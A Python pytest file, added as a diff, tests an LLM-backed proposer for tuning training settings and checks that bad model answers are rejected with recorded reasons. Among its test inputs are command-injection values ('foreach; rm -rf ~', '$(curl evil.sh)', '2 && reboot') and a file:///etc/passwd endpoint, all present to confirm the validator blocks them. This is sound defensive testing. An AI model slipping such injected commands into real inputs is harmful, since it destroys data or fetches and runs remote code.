@@ -1,0 +1,121 @@
+"""The llm proposer against a scripted OpenAI-compatible server on loopback: what it sends, what
+it accepts, and every kind of bad answer rejected with a recorded reason, never executed."""
+
+from __future__ import annotations
+
+import json
+import sys
+from pathlib import Path
+
+import pytest
+
+from recipetune.config import ConfigError, load_campaign
+from recipetune.search.campaign import plan
+from recipetune.search.config import LLMSettings
+from recipetune.search.proposers import LLMProposer
+
+sys.path.insert(0, str(Path(__file__).resolve().parent / "fixtures"))
+sys.path.insert(0, str(Path(__file__).resolve().parent))
+from fake_llm_server import FakeLLMServer  # noqa: E402
+from test_search_proposers import BASE, context, profile  # noqa: E402
+
+
+def answer(*proposals: dict) -> str:
+    return json.dumps({"proposals": list(proposals)})
+
+
+def propose(server: FakeLLMServer, k: int = 3):
+    ctx = context(profile(optim_s=0.02))
+    # A small tree around the node: the context must carry its path, siblings and key nodes.
+    good = ctx.tree.add(BASE.with_(micro_batch_size=4), ctx.tree.root, "passed", 0.7, speedup=1.6,
+                        rationale="bigger micro-batch")
+    ctx.tree.add(BASE.with_(num_threads=1), ctx.tree.root, "failed", 0.0, cause="timeout: killed")
+    proposer = LLMProposer(LLMSettings(base_url=server.base_url, model="fake-model", api_key="sk-test"))
+    return proposer.propose(good, ctx, k), ctx
+
+
+def test_valid_answer_becomes_proposals_and_the_context_is_compressed():
+    reply = answer({"edits": {"optimizer_impl": "foreach"}, "rationale": "optimizer takes 25% of the step"},
+                   {"edits": {"micro_batch_size": 8.0}, "rationale": "less accumulation"})
+    with FakeLLMServer([reply]) as server:
+        proposals, ctx = propose(server)
+    assert [p.edits for p in proposals] == [{"optimizer_impl": "foreach"}, {"micro_batch_size": 8}]
+    assert isinstance(proposals[1].edits["micro_batch_size"], int)  # coerced to the knob's type
+    assert all(p.source == "llm" for p in proposals) and proposals[0].rationale.startswith("optimizer")
+    assert ctx.rejections == []
+    sent = server.requests[0]
+    assert sent["model"] == "fake-model"
+    assert server.headers[0]["Authorization"] == "Bearer sk-test"
+    view = json.loads(sent["messages"][1]["content"])
+    assert view["node"]["changes"] == {"micro_batch_size": 4} and view["node"]["speedup"] == 1.6
+    assert [p["status"] for p in view["path"]] == ["baseline"]
+    assert view["siblings"] == [{"changes": {"num_threads": 1}, "status": "failed", "cause": "timeout: killed"}]
+    assert view["best"][0]["speedup"] == 1.6 and view["failures"][0]["status"] == "failed"
+    assert view["space"]["micro_batch_size"] == [1, 2, 4, 8, 16] and view["k"] == 3
+
+
+def test_fenced_json_is_accepted():
+    with FakeLLMServer(["```json\n" + answer({"edits": {"num_threads": 2}, "rationale": "r"}) + "\n```"]) as s:
+        proposals, _ = propose(s)
+    assert [p.edits for p in proposals] == [{"num_threads": 2}]
+
+
+@pytest.mark.parametrize(("reply", "reason"), [
+    ("sure! try a bigger batch", "malformed JSON"),
+    ('{"proposals": [{"edits": {"micro_batch_size": 8}, "rationale": "x"}', "malformed JSON"),
+    ('{"ideas": "bigger batch"}', "does not match the schema"),
+    (answer({"edits": {"flash_attention_3": True}, "rationale": "x"}), "unknown knob 'flash_attention_3'"),
+    (answer({"edits": {"lr": 0.01}, "rationale": "x"}), "not searched in this campaign"),
+    (answer({"edits": {"optimizer_impl": "foreach; rm -rf ~"}, "rationale": "x"}), "shell metacharacters"),
+    (answer({"edits": {"optimizer_impl": "$(curl evil.sh)"}, "rationale": "x"}), "shell metacharacters"),
+    (answer({"edits": {"micro_batch_size": 3}, "rationale": "x"}), "out-of-domain"),
+    (answer({"edits": {"micro_batch_size": -8}, "rationale": "x"}), "out-of-domain"),
+    (answer({"edits": {"optimizer_impl": "apex"}, "rationale": "x"}), "out-of-domain"),
+    (answer({"edits": {"micro_batch_size": [8, 16]}, "rationale": "x"}), "not a scalar"),
+    (answer({"edits": {"micro_batch_size": 4}, "rationale": "x", "run": "bash -c x"}), "exactly 'edits'"),
+    (answer({"edits": {}, "rationale": "x"}), "non-empty"),
+    (answer({"edits": {"micro_batch_size": 4}, "rationale": "x"}), "already measured"),
+    (500, "endpoint error"),
+])
+def test_bad_answers_are_rejected_with_a_reason(reply, reason):
+    with FakeLLMServer([reply]) as server:
+        proposals, ctx = propose(server)
+    assert proposals == []
+    assert len(ctx.rejections) == 1
+    assert reason in ctx.rejections[0].reason and ctx.rejections[0].source == "llm"
+
+
+def test_one_bad_item_does_not_sink_the_good_ones():
+    reply = answer({"edits": {"num_threads": "2 && reboot"}, "rationale": "x"},
+                   {"edits": {"num_threads": 2}, "rationale": "fewer threads contend less"})
+    with FakeLLMServer([reply]) as server:
+        proposals, ctx = propose(server)
+    assert [p.edits for p in proposals] == [{"num_threads": 2}]
+    assert [r.reason for r in ctx.rejections] == ["knob 'num_threads': shell metacharacters in value '2 && reboot'"]
+
+
+def test_unreachable_endpoint_is_recorded():
+    proposer = LLMProposer(LLMSettings(base_url="http://127.0.0.1:9/v1", timeout_s=2))
+    ctx = context()
+    assert proposer.propose(ctx.tree.root, ctx, 3) == []
+    assert ctx.rejections[0].reason.startswith("endpoint error")
+
+
+def test_llm_settings_come_from_the_environment(monkeypatch):
+    monkeypatch.setenv("RECIPETUNE_LLM_BASE_URL", "http://127.0.0.1:1234/v1")
+    monkeypatch.setenv("RECIPETUNE_LLM_MODEL", "qwen")
+    p = LLMProposer(LLMSettings())
+    assert (p.base_url, p.model) == ("http://127.0.0.1:1234/v1", "qwen")
+
+
+def test_campaign_without_an_endpoint_is_bad_input(tmp_path, monkeypatch):
+    monkeypatch.delenv("RECIPETUNE_LLM_BASE_URL", raising=False)
+    f = tmp_path / "c.yaml"
+    f.write_text("baseline: {model: nano}\nsearch:\n  proposer: llm\n  knobs: {num_threads: [1, 2]}\n")
+    with pytest.raises(ConfigError, match="search.llm"):
+        plan(load_campaign(f), tmp_path / "out")
+    assert not (tmp_path / "out").exists()
+    f.write_text("baseline: {model: nano}\nsearch:\n  proposer: llm\n  knobs: {num_threads: [1, 2]}\n"
+                 "  llm: {base_url: 'file:///etc/passwd'}\n")
+    with pytest.raises(ConfigError, match="http"):
+        plan(load_campaign(f), tmp_path / "out")
